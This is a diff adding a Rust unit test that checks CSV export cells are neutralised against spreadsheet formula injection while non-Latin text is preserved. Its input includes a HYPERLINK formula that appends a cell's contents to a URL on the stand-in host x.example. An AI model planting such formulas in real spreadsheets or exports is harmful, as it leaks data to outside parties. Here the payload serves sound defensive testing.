@@ -194,6 +194,25 @@ fn a_disabled_control_leaves_its_risk_as_a_design_deficiency() {
     assert_eq!(design[0].id, "R16:design");
 }
 
+/// BR-32: titles that are formulas, a leading tab, a leading minus, and text in other
+/// scripts, exported to CSV for a spreadsheet.
+#[test]
+fn csv_text_cells_are_neutralized_and_other_scripts_kept() {
+    assert_eq!(
+        csv_field("=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"),
+        "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\""
+    );
+    assert_eq!(csv_field("\t=1+1"), "'\t=1+1");
+    assert_eq!(csv_field("-rollback db index"), "'-rollback db index");
+    assert_eq!(csv_field("\n=1+1"), "\"'\n=1+1\"");
+    assert_eq!(csv_field("\r=1+1"), "\"'\r=1+1\"");
+    assert_eq!(
+        csv_field("Änderung – Übernahme Лог"),
+        "Änderung – Übernahme Лог"
+    );
+    assert_eq!(audit::engagement::CSV_BOM.as_bytes(), b"\xEF\xBB\xBF");
+}
+
 #[test]
 fn csv_cells_never_start_a_formula() {
     assert_eq!(csv_field("=HYPERLINK(\"x\")"), "\"'=HYPERLINK(\"\"x\"\")\"");
